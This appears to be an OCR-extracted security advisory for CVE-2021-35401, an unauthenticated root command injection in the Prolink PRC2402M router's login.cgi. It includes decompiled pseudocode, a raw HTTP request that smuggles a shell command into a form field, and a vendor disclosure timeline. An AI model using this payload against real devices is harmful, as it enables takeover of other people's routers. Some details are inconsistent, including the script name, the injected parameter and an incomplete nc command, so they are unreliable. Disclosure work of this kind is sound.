CVE: CVE-2021-35401

Tested Versions:

  • Prolink PRC2402M 20190909

Product URL(s):

Description of the vulnerability

This vulnerability is present as there are no checks on user input taken by login.cgi, which is passed to popen, allowing an attacker to execute arbitrary code in the context of the root user on affected installations of the Prolink PRC2402M router.

No authentication is required to exploit this vulnerability.The router makes POST requests through HTML forms to interact with the cgi scripts. To access the vulnerable script, visit http://localhost/cgi-bin/login.cgi.

In qos.cgi, the main function checks if the page parameter is equal to login. If so, it calls the vulnerable function sys_login.

    page = web_get("page", body);
    if (strcmp(page,"test") == 0) {
    else if (strcmp(page,"login") == 0) {

As seen in the simplified pseudocode of sys_login below, the key parameter is passed to popen without any input validation, allowing an attacker to supply malicious input and gain arbitrary code execution. The langChange parameter needs to be not equal to "1" to trigger the vulnerable code path.

void sys_login(undefined4 request)
    Password = nvram_bufget(0,"Password");
    key = web_get("key",body);
    key = strdup(key);
    langChange = web_get("langChange",body);
    langChange = strdup(langChange);

    if (strcmp(langChange, "1") == 0) {
    else {
        strcpy((char *)&salted, key);
        strcat((char *)&salted, Password);sprintf(command,"echo -n \'%s\' | md5sum", &salted);
        popen(command, "r");


The following payload contains the raw HTTP request that can be used to exploit this vulnerability.

POST /cgi-bin/login.cgi HTTP/1.0
Host: localhost
User-Agent: HTTPie/2.4.0
Accept-Encoding: gzip, deflate
Accept: */*
Connection: keep-alive
Content-Type: application/x-www-form-urlencoded; charset=utf-8
Content-Length: 208

page=login&newUI=0&username=admin&password=password&hostname=localhost&ipaddr=' $(echo gg>/tmp/gg) #

Save it in a file and run cat payload | nc 80.

Note! Make sure CRLF endings is used in the request payload, otherwise lighttpd which runs on the server will ignore this request.


  • 2021-06-10 Reported to Vendor, Prolink
  • 2021-06-10 Prolink acknowledged report• 2021-06-10 Prolink claimed to have patched it
  • 2021-06-11 Team member Daniel Lim sent in his bypass for their patch
  • 2021-06-11 Prolink acknowledged the newbypass
  • 2021-06-13 Prolink fixed it